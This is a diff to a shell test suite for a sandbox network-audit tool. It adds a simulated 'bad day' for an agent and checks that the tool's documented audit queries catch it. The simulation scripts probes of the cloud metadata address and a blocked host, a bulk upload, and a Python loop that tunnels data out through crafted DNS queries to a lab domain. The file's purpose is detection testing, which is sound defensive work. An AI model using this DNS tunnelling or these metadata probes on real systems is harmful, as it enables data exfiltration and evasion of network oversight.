@@ -80,7 +80,7 @@ options_match() {
 	local edits=(--allow '*.lab-a.com')
 	sandbox read --policy "$(policy read 'host: news.lab-site.org')" "${edits[@]}" --label team=red
 	sandbox clone --parent read
-	guest read curl -sS -o /dev/null https://news.lab-site.org/
+	guest read curl -sS -m 20 -o /dev/null https://news.lab-site.org/
 	guest read curl -4 -sS -o /dev/null http://news.lab-site.org/
 	guest_fails read curl -sS https://www.lab-b.net/
 	guest_fails read curl -sS -m 2 http://10.0.0.1/
@@ -102,4 +102,63 @@ options_match() {
 	run -0 python3 "$LAB_DIR/manual.py" audit "$LAB/tmp/page.scd" "$DB" "$LAB/tmp/rows"
 	matches "the column" "view v_connections: up_sport is missing" "$output"
 	matches "the word" "reasons: sni_missing is missing" "$output"
+}
+
+# What an agent does on a bad day.
+day() {
+	sandbox task1 --policy "$(policy task1 'host: "*.lab-a.com"' 'host: lab-a.com' 'host: news.lab-site.org')"
+	postern mark task1 'step 1: read'
+	guest task1 curl -sS -m 20 -o /dev/null https://news.lab-site.org/
+	head -c 200000 /dev/zero >"$LAB/tmp/upload"
+	guest task1 curl -4 -sS -m 20 -o /dev/null --data-binary "@$LAB/tmp/upload" -H "Expect:" https://www.lab-a.com/api/upload
+	postern mark task1 'step 2: look around'
+	guest_fails task1 curl -sS -m 2 http://169.254.169.254/
+	guest_fails task1 curl -sS https://www.lab-b.net/
+	guest task1 python3 - "$GATEWAY4" <<-'PYTHON'
+		import hashlib, socket, struct, sys, time
+		sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+		for i in range(150):
+		    label = hashlib.sha256(bytes([i])).hexdigest()[:40].encode()
+		    sock.sendto(struct.pack(">HHHHHH", i, 256, 1, 0, 0, 0) + bytes([40]) + label + b"\5lab-b\3net\0\0\1\0\1", (sys.argv[1], 53))
+		    time.sleep(0.02)
+	PYTHON
+	postern allow task1 www.lab-b.net --for 1s
+	log_has task1 '.event == "grant_expired"'
+	log_has task1 '.kind == "flow" and .name == "www.lab-a.com" and .end != null and .end != "open"'
+	role_signal KILL control
+	wait_for 10 all_ready
+}
+
+@test "the examples of postern-audit(5) are answered by a log that has what they ask for" {
+	local block community output_of=$LAB/tmp/output_of
+	day
+	mkdir -p "$LAB/tmp/blocks"
+	cd "$LAB/tmp/blocks"
+	python3 "$LAB_DIR/manual.py" examples "$MAN/postern-audit.5.scd" .
+	equal "blocks" 20 "$(echo [0-9]* | wc -w)"
+	community=$(log_json task1 | jq -r 'select(.name == "www.lab-a.com" and .up_community_id).up_community_id' | head -n 1)
+	sed -i "s|1:wCb3OG7yAFWelaUydu0D+125CLM=|$community|; s/example\.com/lab-a.com/g" [0-9]*
+	postern seal key >postern.key
+	postern seal export >postern.seals
+	for block in [0-9]*; do
+		if grep -q '^SELECT' "$block"; then
+			run -0 --separate-stderr sqlite3 -readonly -box "$DB" ".read $block"
+			equal "messages of $block" "" "$stderr"
+			[[ -n $output ]] || fail "no row for" "$(cat "$block")"
+			echo "$output" >"$output_of-$block"
+			continue
+		fi
+		while read -r line; do
+			run -0 bash -c "$line"
+			[[ -n $output || -s task1.html ]] || fail "no output of $line"
+			echo "$output" >>"$output_of-$block"
+		done <"$block"
+	done
+	matches "refused" "www.lab-b.net +│ +443|169.254.169.254 +│ +80" "$(cat "$output_of-01")"
+	matches "metadata" "connection │ 169.254.169.254" "$(cat "$output_of-05")"
+	matches "tunnel" "lab-b.net" "$(cat "$output_of-09")"
+	matches "step" "step 2: look around │ (169.254.169.254|www.lab-b.net)" "$(cat "$output_of-15")"
+	matches "capture" "task1 +│ www.lab-a.com" "$(cat "$output_of-17")"
+	matches "gap" "role_crash" "$(cat "$output_of-19")"
+	cd /
 }
